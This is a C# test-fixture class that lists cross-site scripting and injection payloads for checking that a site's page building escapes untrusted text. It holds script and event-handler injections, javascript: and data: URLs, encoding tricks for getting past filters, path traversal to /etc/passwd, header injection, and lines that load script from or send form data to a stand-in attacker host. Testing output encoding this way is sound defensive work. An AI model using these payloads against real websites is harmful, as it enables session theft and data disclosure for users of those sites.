namespace VillagePublic.Tests.Pages;

/// <summary>Texts that break pages put together by gluing strings: tags, attributes, schemes, encodings.</summary>
internal static class HostileTexts
{
    private static readonly string[] Elements =
    [
        "a", "abbr", "audio", "base", "body", "button", "canvas", "details", "dialog", "div", "embed", "form",
        "frameset", "iframe", "img", "image", "input", "isindex", "keygen", "link", "marquee", "math", "menu",
        "meta", "object", "p", "script", "select", "source", "style", "svg", "svg/animate", "table",
        "template", "textarea", "video", "x", "xmp",
    ];

    private static readonly string[] Handlers =
    [
        "onabort", "onanimationend", "onbeforeinput", "onbegin", "onblur", "oncanplay", "onclick", "oncut", "ondrag",
        "onerror", "onfocus", "onfocusin", "onhashchange", "oninput", "onkeydown", "onload", "onloadstart",
        "onmessage", "onmouseover", "onpageshow", "onpaste", "onpointerdown", "onresize", "onscroll", "onstart",
        "ontoggle", "ontouchstart", "ontransitionend", "onwheel",
    ];

    // What may stand before the element to end whatever it is put into, and how handler and element are kept apart.
    private static readonly string[] Before = ["", "\">", "'>", "</title>", "</style>", "-->"];
    private static readonly string[] Between = [" ", "/", "\t", "\n", "\f", "\u00A0", "/x=\"y\""];

    /// <summary>Every element with every handler, each written in one of many ways.</summary>
    public static IEnumerable<string> Generated =>
        Elements.Index().SelectMany(element => Handlers.Index().Select(handler =>
        {
            var way = (element.Index * Handlers.Length) + handler.Index;
            var start = $"{Before[way % Before.Length]}<{element.Item}{Between[way % Between.Length]}";
            return $"{start}{handler.Item}=alert(1)>";
        }));

    public static IReadOnlyList<string> All { get; } =
    [
        "<script>alert(1)</script>",
        "<ScRiPt src=//evil.example/x.js></sCrIpT>",
        "<script\u0000>alert(1)</script>",
        "<script/x>alert(1)</script >",
        "</title><script>alert(1)</script>",
        "</style><script>alert(1)</script>",
        "</textarea><script>alert(1)</script>",
        "--><script>alert(1)</script><!--",
        "]]><script>alert(1)</script>",
        "<img src=x onerror=alert(1)>",
        "<img/src/onerror=alert(1)>",
        "<image src=x onerror=alert(1)>",
        "<svg onload=alert(1)>",
        "<svg><script>alert(1)</script></svg>",
        "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
        "<svg><a xlink:href=\"javascript:alert(1)\"><text>x</text></a></svg>",
        "<math><mi//xlink:href=\"data:x,<script>alert(1)</script>\">",
        "<iframe src=javascript:alert(1)></iframe>",
        "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
        "<object data=javascript:alert(1)>",
        "<embed src=javascript:alert(1)>",
        "<a href=\"javascript:alert(1)\">x</a>",
        "<base href=//evil.example/>",
        "<form action=//evil.example><button>x</button></form>",
        "<input autofocus onfocus=alert(1)>",
        "<meta http-equiv=refresh content=\"0;url=//evil.example\">",
        "<link rel=stylesheet href=//evil.example/x.css>",
        "<style>@import '//evil.example/x.css';</style>",
        "<body onload=alert(1)>",
        "<details open ontoggle=alert(1)>",
        "<video><source onerror=alert(1)></video>",
        "<marquee onstart=alert(1)>",
        "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
        "<template><script>alert(1)</script></template>",
        "<p style=\"background:url(javascript:alert(1))\">",
        "\" onmouseover=\"alert(1)",
        "' onmouseover='alert(1)",
        "\" autofocus onfocus=alert(1) x=\"",
        "x\" style=\"position:fixed",
        "` onmouseover=alert(1)",
        "javascript:alert(1)",
        "JaVaScRiPt:alert(1)",
        "java\nscript:alert(1)",
        "java\tscript:alert(1)",
        "\u0001javascript:alert(1)",
        " javascript:alert(1)",
        "javascript&colon;alert(1)",
        "&#106;avascript:alert(1)",
        "&lt;script&gt;alert(1)&lt;/script&gt;",
        "vbscript:msgbox(1)",
        "data:text/html,<script>alert(1)</script>",
        "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
        "file:///etc/passwd",
        "//evil.example/x",
        "\\\\evil.example\\x",
        "/\\evil.example/x",
        "https:evil.example",
        "http://evil.example/\"onmouseover=\"alert(1)",
        "mailto:a@b.cn\"><script>alert(1)</script>",
        "tel:1\" onclick=\"alert(1)",
        "{{constructor.constructor('alert(1)')()}}",
        "${alert(1)}",
        "<%= 7*7 %>",
        "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
        "\uFEFF<script>alert(1)</script>",
        "\u202E<script>alert(1)</script>",
        "\uD800<script>alert(1)</script>",
        "＜script＞alert(1)＜/script＞",
        "ſcript<ſcript>alert(1)</ſcript>",
        "<\u0000img src=x onerror=alert(1)>",
        "<a\u000chref=javascript:alert(1)>x</a>",
        "&quot;&gt;&lt;img src=x onerror=alert(1)&gt;",
        "<xmp><p title=\"</xmp><img src=x onerror=alert(1)>\">",
        "<isindex type=image src=1 onerror=alert(1)>",
        "<x contenteditable onblur=alert(1)>lose focus!",
        "../../../etc/passwd",
        "%3Cscript%3Ealert(1)%3C/script%3E",
        "\r\nContent-Type: text/html\r\n\r\n<script>alert(1)</script>",
    ];
}
